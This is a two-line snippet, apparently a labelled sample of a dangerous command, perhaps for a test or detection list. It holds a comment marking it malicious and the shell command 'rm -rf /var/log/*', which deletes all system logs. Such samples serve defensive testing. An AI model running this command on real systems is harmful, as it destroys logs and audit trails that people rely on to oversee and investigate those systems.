# Malicious: deletes every system log.
rm -rf /var/log/*
